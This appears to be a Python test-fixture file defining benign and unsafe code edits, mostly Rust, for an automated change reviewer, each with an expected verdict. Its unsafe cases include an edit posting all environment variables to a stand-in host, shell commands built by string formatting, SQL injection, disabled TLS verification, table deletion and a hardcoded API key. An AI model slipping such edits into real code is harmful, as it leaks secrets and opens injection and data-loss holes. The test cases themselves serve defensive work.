"""Rust cases, and config/manifest files."""

RS_H = '''    let orders = list_orders(client, table, tenant_id).await?;
    Ok(json!({ "orders": orders }))'''

PKG = '''{
  "name": "orders-api",
  "version": "1.4.0",
  "private": true,
  "main": "src/orders.js",
  "dependencies": {
    "@aws-sdk/client-dynamodb": "^3.600.0",
    "@aws-sdk/lib-dynamodb": "^3.600.0"
  },
  "devDependencies": {
    "jest": "^29.7.0"
  }
}
'''

APP_YAML = '''service: orders
defaults:
  page_size: 50
  max_page_size: 500
regions:
  - eu-west-1
  - us-east-1
'''

TEMPLATE = '''AWSTemplateFormatVersion: "2010-09-09"
Transform: AWS::Serverless-2016-10-31
Resources:
  OrdersFunction:
    Type: AWS::Serverless::Function
    Properties:
      Handler: orders.handler
      Runtime: python3.12
      MemorySize: 256
      Timeout: 10
'''

CASES = [
    # ---------------------------------------------------------------- Rust benign
    dict(id="rs-timeout", kind="benign", category="timeout", base="rs_main", expect="allow",
         note="bounds the query with a timeout",
         edits=[("use serde_json::{Value, json};", "use serde_json::{Value, json};\nuse std::time::Duration;"),
                ("    let orders = list_orders(client, table, tenant_id).await?;", "    let orders = tokio::time::timeout(Duration::from_secs(3), list_orders(client, table, tenant_id))\n        .await\n        .map_err(|_| \"orders query timed out\")??;")]),
    dict(id="rs-retry", kind="benign", category="retry", base="rs_main", expect="allow",
         note="retries the query twice",
         edits=[("    let orders = list_orders(client, table, tenant_id).await?;", "    let mut attempt = 0;\n    let orders = loop {\n        match list_orders(client, table, tenant_id).await {\n            Ok(orders) => break orders,\n            Err(e) if attempt < 2 => {\n                attempt += 1;\n                tracing::warn!(attempt, error = %e, \"retrying the orders query\");\n                tokio::time::sleep(std::time::Duration::from_millis(100 << attempt)).await;\n            }\n            Err(e) => return Err(e),\n        }\n    };")]),
    dict(id="rs-logging-words", kind="benign", category="logging", base="rs_main", expect="allow",
         note="a log line with the words password and token",
         edits=[(RS_H, "    tracing::info!(tenant = %tenant_id, \"password policy and token scopes unchanged\");\n" + RS_H)]),
    dict(id="rs-validation", kind="benign", category="validation", base="rs_main", expect="allow",
         note="rejects an empty tenant id",
         edits=[("    let tenant_id = event.payload[\"tenant_id\"].as_str().unwrap_or_default();", "    let tenant_id = event.payload[\"tenant_id\"].as_str().unwrap_or_default();\n    if tenant_id.is_empty() || tenant_id.len() > 40 {\n        return Err(\"tenant_id must be 1-40 characters\".into());\n    }")]),
    dict(id="rs-pagination", kind="benign", category="pagination", base="rs_main", expect="allow",
         note="pages through the query with the SDK paginator",
         edits=[('''    let out = client
        .query()
        .table_name(table)
        .key_condition_expression("tenant_id = :t")
        .expression_attribute_values(":t", AttributeValue::S(tenant_id.to_owned()))
        .send()
        .await?;
    Ok(out.items().iter().map(|item| json!(format!("{item:?}"))).collect())''', '''    let pages: Vec<_> = client
        .query()
        .table_name(table)
        .key_condition_expression("tenant_id = :t")
        .expression_attribute_values(":t", AttributeValue::S(tenant_id.to_owned()))
        .into_paginator()
        .items()
        .send()
        .collect::<Result<Vec<_>, _>>()
        .await?;
    Ok(pages.iter().map(|item| json!(format!("{item:?}"))).collect())''')]),
    dict(id="rs-param-query", kind="benign", category="refactor", base="rs_db", expect="allow",
         note="a new query with a bound parameter",
         edits=[("/// Stores one uploaded report file", '''/// The total of one region on one day.
pub async fn region_total(pool: &PgPool, day: &str, region: &str) -> Result<i64, sqlx::Error> {
    let row = sqlx::query("SELECT COALESCE(SUM(amount), 0) AS total FROM sales WHERE day = $1 AND region = $2")
        .bind(day)
        .bind(region)
        .fetch_one(pool)
        .await?;
    Ok(row.get("total"))
}

/// Stores one uploaded report file''')]),
    dict(id="rs-command-fixed", kind="benign", category="refactor", base="rs_db", expect="allow",
         note="compresses the stored file with a fixed program; the path is an argument, no shell",
         edits=[("    std::fs::write(dir.join(name), bytes)\n}", '''    let path = dir.join(name);
    std::fs::write(&path, bytes)?;
    let status = std::process::Command::new("gzip").arg("-9").arg(&path).status()?;
    if !status.success() {
        return Err(std::io::Error::other("gzip failed"));
    }
    Ok(())
}''')]),
    dict(id="rs-refactor", kind="benign", category="refactor", base="rs_main", expect="allow",
         note="extracts a private helper",
         edits=[("    let tenant_id = event.payload[\"tenant_id\"].as_str().unwrap_or_default();", "    let tenant_id = tenant_of(&event.payload);"),
                ("async fn handler(", "fn tenant_of(payload: &Value) -> &str {\n    payload[\"tenant_id\"].as_str().unwrap_or_default()\n}\n\nasync fn handler(")]),
    dict(id="rs-docs", kind="benign", category="docs", base="rs_main", expect="allow",
         note="doc comments only",
         edits=[("pub async fn list_orders(", "/// A tenant's orders (the table's partition key is the tenant id).\npub async fn list_orders(")]),
    dict(id="rs-format-log", kind="benign", category="logging", base="rs_db", expect="allow",
         note="format! for a log message, not SQL",
         edits=[("    Ok(rows\n", "    let summary = format!(\"{} regions on {day}\", rows.len());\n    tracing::debug!(\"{summary}\");\n    Ok(rows\n")]),
    # ---------------------------------------------------------------- Rust unsafe
    dict(id="rs-sql-format", kind="unsafe", category="sql", base="rs_db", expect="needs_approval",
         note="format! into sqlx::query",
         edits=[("/// Stores one uploaded report file", '''/// The total of one region.
pub async fn region_total(pool: &PgPool, region: &str) -> Result<i64, sqlx::Error> {
    let sql = format!("SELECT SUM(amount) AS total FROM sales WHERE region = '{region}'");
    let row = sqlx::query(&sql).fetch_one(pool).await?;
    Ok(row.get("total"))
}

/// Stores one uploaded report file''')]),
    dict(id="rs-command-from-event", kind="unsafe", category="code_execution", base="rs_main", expect="block",
         note="runs a program named by the event",
         edits=[(RS_H, "    let tool = event.payload[\"tool\"].as_str().unwrap_or(\"true\");\n    std::process::Command::new(tool).status()?;\n" + RS_H)]),
    dict(id="rs-sh-c", kind="unsafe", category="code_execution", base="rs_db", expect="block",
         note="sh -c with a formatted command line",
         edits=[("use sqlx::Row;", "use sqlx::Row;\nuse std::process::Command;"),
                ("    std::fs::write(dir.join(name), bytes)\n}", '''    std::fs::write(dir.join(name), bytes)?;
    let mut cmd = Command::new("sh");
    cmd.arg("-c").arg(format!("gzip -9 {}/{}", dir.display(), name));
    cmd.status()?;
    Ok(())
}''')]),
    dict(id="rs-bash-args-array", kind="unsafe", category="code_execution", base="rs_db", expect="block",
         note="bash -c through .args([...]) with a formatted line",
         edits=[("    std::fs::write(dir.join(name), bytes)\n}", '''    std::fs::write(dir.join(name), bytes)?;
    let line = format!("chmod 600 {}/{}", dir.display(), name);
    std::process::Command::new("bash").args(["-c", &line]).status()?;
    Ok(())
}''')]),
    dict(id="rs-remove-dir-all", kind="unsafe", category="destructive", base="rs_db", expect="needs_approval",
         note="recursive delete of a directory named by the upload",
         edits=[("    std::fs::create_dir_all(dir)?;", "    std::fs::remove_dir_all(dir.join(name))?;\n    std::fs::create_dir_all(dir)?;")]),
    dict(id="rs-unsafe-block", rule="unsafe_code", kind="unsafe", category="compatibility", base="rs_main", expect="needs_approval",
         note="an unsafe block to set an environment variable",
         edits=[("    let table = std::env::var(\"TABLE_NAME\")?;", "    let table = std::env::var(\"TABLE_NAME\")?;\n    unsafe { std::env::set_var(\"AWS_MAX_ATTEMPTS\", \"5\") };")]),
    dict(id="rs-tls-danger", kind="unsafe", category="tls", base="rs_main", expect="needs_approval",
         env={"IMPORT_ALLOWED": "rust:reqwest"},
         note="a reqwest client that accepts any certificate",
         edits=[("use serde_json::{Value, json};", "use serde_json::{Value, json};\nuse reqwest::ClientBuilder;"),
                ("    let client = Client::new(&config);", "    let client = Client::new(&config);\n    let _http = ClientBuilder::new().danger_accept_invalid_certs(true).build()?;")]),
    dict(id="rs-secret-anthropic", kind="unsafe", category="secrets", base="rs_main", expect="block",
         note="an Anthropic key in a constant",
         edits=[("use serde_json::{Value, json};", "use serde_json::{Value, json};\n\nconst SUMMARY_KEY: &str = \"sk-ant-api03-Zp4Lk9Qm2Xv7Rt1Wn8Bc5Hd3Jf6Gs0Ya2Ue4Io\";")]),
    dict(id="rs-signature", rule="signature_changed", kind="unsafe", category="compatibility", base="rs_main", expect="needs_approval",
         note="list_orders gains a parameter",
         edits=[("pub async fn list_orders(client: &Client, table: &str, tenant_id: &str)", "pub async fn list_orders(client: &Client, table: &str, tenant_id: &str, limit: i32)"),
                ("        .key_condition_expression(\"tenant_id = :t\")\n", "        .key_condition_expression(\"tenant_id = :t\")\n        .limit(limit)\n"),
                ("    let orders = list_orders(client, table, tenant_id).await?;", "    let orders = list_orders(client, table, tenant_id, 50).await?;")]),
    dict(id="rs-pub-removed", rule="removed_export", kind="unsafe", category="compatibility", base="rs_db", expect="needs_approval",
         note="a public function is removed",
         edits=[('''
/// Stores one uploaded report file under the work directory.
pub fn store_upload(dir: &std::path::Path, name: &str, bytes: &[u8]) -> std::io::Result<()> {
    std::fs::create_dir_all(dir)?;
    std::fs::write(dir.join(name), bytes)
}
''', "")]),
    dict(id="rs-main-renamed", rule="handler_signature", kind="unsafe", category="compatibility", base="rs_main", handler="bootstrap", expect="needs_approval",
         note="the bootstrap binary loses fn main",
         edits=[("#[tokio::main]\nasync fn main() -> Result<(), Error> {", "#[tokio::main]\nasync fn start() -> Result<(), Error> {")]),
    dict(id="rs-syntax", kind="unsafe", category="syntax", base="rs_main", expect="block",
         note="an unbalanced parenthesis",
         edits=[("    let table = std::env::var(\"TABLE_NAME\")?;", "    let table = std::env::var(\"TABLE_NAME\"?;")]),
    dict(id="rs-tenant-scan", kind="unsafe", category="tenant", base="rs_main", expect="needs_approval",
         note="the keyed query becomes a scan",
         edits=[('''        .query()
        .table_name(table)
        .key_condition_expression("tenant_id = :t")
        .expression_attribute_values(":t", AttributeValue::S(tenant_id.to_owned()))''', '''        .scan()
        .table_name(table)''')]),
    dict(id="rs-delete-table", kind="unsafe", category="destructive", base="rs_main", expect="needs_approval",
         note="deletes the table on a reset flag",
         edits=[(RS_H, "    if event.payload[\"reset\"].as_bool() == Some(true) {\n        client.delete_table().table_name(table).send().await?;\n    }\n" + RS_H)]),
    dict(id="rs-exfil-env", kind="unsafe", category="exfiltration", base="rs_main", expect="block",
         env={"IMPORT_ALLOWED": "rust:reqwest"},
         note="posts every environment variable",
         edits=[(RS_H, "    let vars: Vec<(String, String)> = std::env::vars().collect();\n    reqwest::Client::new().post(\"https://drop.example.net/e\").json(&vars).send().await?;\n" + RS_H)]),
    dict(id="rs-import-new-crate", kind="unsafe", category="imports", base="rs_db", expect="needs_approval",
         note="a new crate outside the allow-list",
         edits=[("use sqlx::Row;", "use sqlx::Row;\nuse rand::Rng;")]),
    # ---------------------------------------------------------------- config and manifests
    dict(id="json-dependency-bump", kind="benign", category="dependency", path="package.json", before=PKG, expect="allow",
         note="a patch-level version bump", language="json",
         edits=[('"@aws-sdk/lib-dynamodb": "^3.600.0"', '"@aws-sdk/lib-dynamodb": "^3.614.0"')]),
    dict(id="json-new-dependency", kind="unsafe", category="dependency", path="package.json", before=PKG, expect="needs_approval",
         note="a new runtime dependency", language="json",
         edits=[('''    "@aws-sdk/lib-dynamodb": "^3.600.0"
''', '''    "@aws-sdk/lib-dynamodb": "^3.600.0",
    "event-stream": "3.3.6"
''')]),
    dict(id="json-syntax", kind="unsafe", category="syntax", path="package.json", before=PKG, expect="block",
         note="a trailing comma", language="json",
         edits=[('''    "jest": "^29.7.0"
''', '''    "jest": "^29.7.0",
''')]),
    dict(id="yaml-config-page-size", kind="benign", category="config", path="config/app.yaml", before=APP_YAML, expect="allow",
         note="a config value", language="yaml",
         edits=[("  page_size: 50", "  page_size: 100")]),
    dict(id="yaml-template-protected", kind="unsafe", category="protected", path="template.yaml", before=TEMPLATE, expect="needs_approval",
         note="the SAM template is protected", language="yaml",
         edits=[("      MemorySize: 256", "      MemorySize: 512")]),
    dict(id="req-version-bump", kind="benign", category="dependency", path="requirements.txt", before="boto3==1.34.100\npsycopg2-binary==2.9.9\n", expect="allow",
         note="a dependency bump", language="text",
         edits=[("psycopg2-binary==2.9.9", "psycopg2-binary==2.9.10")]),
]
